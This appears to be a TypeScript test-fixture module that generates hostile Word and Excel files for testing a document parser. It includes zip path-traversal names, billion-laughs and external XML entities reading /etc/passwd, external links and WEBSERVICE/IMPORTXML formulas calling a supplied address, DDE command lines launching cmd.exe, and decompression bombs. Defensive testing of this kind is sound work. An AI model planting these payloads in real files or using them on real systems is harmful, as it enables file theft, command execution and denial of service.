import { type HostileDocument, of, zip, type ZipPart } from "./hostile-bytes.ts";

const TYPES = (main: string, kind: string): ZipPart => ({
  name: "[Content_Types].xml",
  data: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${kind}.main+xml"/></Types>`,
});
const RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const links = (name: string, rows: string): ZipPart => ({
  name,
  data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows}</Relationships>`,
});
const link = (id: string, type: string, target: string, more = ""): string =>
  `<Relationship Id="${id}" Type="${RELATIONS}/${type}" Target="${target}" ${more}/>`;
const WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

/** A Word document of the given body, with further parts and links. */
const word = (body: string, more: readonly ZipPart[] = [], rows = "", before = ""): Uint8Array =>
  zip([
    TYPES("word/document.xml", "wordprocessingml.document"),
    links("_rels/.rels", link("r1", "officeDocument", "word/document.xml")),
    links("word/_rels/document.xml.rels", rows),
    {
      name: "word/document.xml",
      data: `${before}<w:document xmlns:w="${WORD}"><w:body>${body}</w:body></w:document>`,
    },
    ...more,
  ]);
/** A workbook with one sheet of the given rows, with further parts and links. */
const book = (rows: string, more: readonly ZipPart[] = [], linked = "", before = "", head = ""): Uint8Array =>
  zip([
    TYPES("xl/workbook.xml", "spreadsheetml.sheet"),
    links("_rels/.rels", link("r1", "officeDocument", "xl/workbook.xml")),
    links("xl/_rels/workbook.xml.rels", link("r1", "worksheet", "worksheets/sheet1.xml") + linked),
    {
      name: "xl/workbook.xml",
      data: `<workbook xmlns="${SHEET}" xmlns:r="${RELATIONS}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`,
    },
    {
      name: "xl/worksheets/sheet1.xml",
      data: `${before}<worksheet xmlns="${SHEET}">${head}<sheetData>${rows}</sheetData></worksheet>`,
    },
    ...more,
  ]);

const cell = (ref: string, value: string): string =>
  `<row><c r="${ref}" t="inlineStr"><is><t>${value}</t></is></c></row>`;
const said = (value: string): string => `<w:p><w:r><w:t>${value}</w:t></w:r></w:p>`;
const PRICE = "Asking Price: $10";
const laughs = `<!DOCTYPE a [<!ENTITY a "ha">${Array.from({ length: 12 }, (_, index) => `<!ENTITY ${String.fromCodePoint(98 + index)} "${`&${String.fromCodePoint(97 + index)};`.repeat(10)}">`).join("")}]>`;
const outside = (address: string): string =>
  `<!DOCTYPE a [<!ENTITY a SYSTEM "${address}/entity"><!ENTITY b SYSTEM "file:///etc/passwd">]>`;

const SLIPS = [
  "../../slip.txt",
  "/etc/slip.txt",
  "C:\\slip.txt",
  "..\\..\\slip.txt",
  "word/../../../slip",
  "a".repeat(60_000),
  "\u0000.xml",
  "",
];

export const hostileOffice = (address: string): readonly HostileDocument[] => [
  ...SLIPS.flatMap((name, index) => [
    of(`slip-${index}.docx`, () => word(said(PRICE), [{ name, data: "x" }])),
    of(`slip-${index}.xlsx`, () => book(cell("A1", PRICE), [{ name, data: "x" }])),
  ]),
  of("laughs.docx", () => word(said("&m;"), [], "", laughs)),
  of("laughs.xlsx", () => book(cell("A1", "&m;"), [], "", laughs)),
  of("entities.docx", () => word(said("&a;&b;"), [], "", outside(address))),
  of("entities.xlsx", () => book(cell("A1", "&a;&b;"), [], "", outside(address))),
  ...["attachedTemplate", "image", "oleObject", "frame", "hyperlink", "subDocument"].map((type) =>
    of(`outside-${type}.docx`, () =>
      word(said(PRICE), [], link("r9", type, `${address}/${type}`, 'TargetMode="External"')),
    ),
  ),
  ...["externalLink", "connections", "pivotCacheDefinition", "hyperlink"].map((type) =>
    of(`outside-${type}.xlsx`, () =>
      book(cell("A1", PRICE), [], link("r9", type, `${address}/${type}`, 'TargetMode="External"')),
    ),
  ),
  ...[
    `WEBSERVICE("${address}/w")`,
    `HYPERLINK("${address}/h","x")`,
    "cmd|'/c calc'!A1",
    "A1",
    'INDIRECT("A1")',
    `IMPORTXML("${address}/i","//a")`,
  ].map((formula, index) =>
    of(`formula-${index}.xlsx`, () =>
      book(
        `<row r="1"><c r="A1"><f>${formula.replaceAll('"', "&quot;").replaceAll("'", "&apos;")}</f></c></row>`,
      ),
    ),
  ),
  of("macro.docx", () =>
    word(
      said(PRICE),
      [{ name: "word/vbaProject.bin", data: "x" }],
      link("r9", "vbaProject", "vbaProject.bin"),
    ),
  ),
  of("macro.xlsx", () =>
    book(
      cell("A1", PRICE),
      [{ name: "xl/vbaProject.bin", data: "x" }],
      link("r9", "vbaProject", "vbaProject.bin"),
    ),
  ),
  of("bomb.docx", () => word(said(" ".repeat(300_000_000)))),
  of("bomb.xlsx", () => book(cell("A1", " ".repeat(300_000_000)))),
  of("bomb-beside.docx", () =>
    word(said(PRICE), [{ name: "word/media/a.png", data: Buffer.alloc(300_000_000) }]),
  ),
  of("lying-size.docx", () =>
    word(said(PRICE), [{ name: "word/a.xml", data: Buffer.alloc(90_000_000), says: { size: 10 } }]),
  ),
  of("wrong-check.docx", () => word(said(PRICE), [{ name: "word/a.xml", data: "x", says: { check: 7 } }])),
  of("locked-part.docx", () => word(said(PRICE), [{ name: "word/a.xml", data: "x", says: { flags: 1 } }])),
  of("same-name.docx", () => word(said(PRICE), [{ name: "word/document.xml", data: "<a/>" }])),
  of("same-name.xlsx", () => book(cell("A1", PRICE), [{ name: "xl/workbook.xml", data: "<a/>" }])),
  of("many-parts.docx", () =>
    word(
      said(PRICE),
      Array.from({ length: 60_000 }, (_, index) => ({ name: `word/${index}`, data: "" })),
    ),
  ),
  of("archive-in-archive.docx", () =>
    word(said(PRICE), [
      { name: "word/a.zip", data: Buffer.from(zip([{ name: "b", data: Buffer.alloc(50_000_000) }])) },
    ]),
  ),
  of("tables-in-tables.docx", () =>
    word(`${"<w:tbl><w:tr><w:tc>".repeat(5_000)}${said(PRICE)}${"</w:tc></w:tr></w:tbl>".repeat(5_000)}`),
  ),
  of("paragraphs-in-runs.docx", () => word("<w:p><w:r>".repeat(60_000))),
  of("tags-without-end.docx", () => word("<w:p ".repeat(200_000))),
  of("attributes.docx", () =>
    word(`<w:p ${Array.from({ length: 100_000 }, (_, index) => `a${index}="x"`).join(" ")}/>`),
  ),
  of("fields.docx", () =>
    word(
      `<w:p><w:r><w:instrText>INCLUDEPICTURE "${address}/field" \\d</w:instrText></w:r></w:p><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>`,
    ),
  ),
  of("own-kind-wrong.docx", () => zip([{ name: "word/document.xml", data: "not a document" }])),
  of("empty-archive.xlsx", () => zip([])),
  of("last-cell.xlsx", () => book(cell("XFD1048576", PRICE))),
  of("cell-of-nowhere.xlsx", () => book(cell("ZZZZZZZZ99999999999", PRICE))),
  of("said-dimension.xlsx", () =>
    book(
      cell("A1", PRICE),
      [],
      "",
      "",
      '<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9"/></cols>',
    ),
  ),
  of("row-of-billions.xlsx", () => book(`<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>`)),
  of("shared-of-nowhere.xlsx", () =>
    book(`<row r="1"><c r="A1" t="s"><v>999999999</v></c><c r="B1" t="s"><v>-1</v></c></row>`),
  ),
  of("shared-formula.xlsx", () =>
    book('<row r="1"><c r="A1"><f t="shared" ref="A1:XFD1048576" si="0">A1+1</f><v>1</v></c></row>'),
  ),
  of("number-of-letters.xlsx", () =>
    book(
      `<row r="1"><c r="A1"><v>${"9".repeat(400_000)}</v></c><c r="B1"><v>NaN</v></c><c r="C1"><v>1e999</v></c></row>`,
    ),
  ),
];
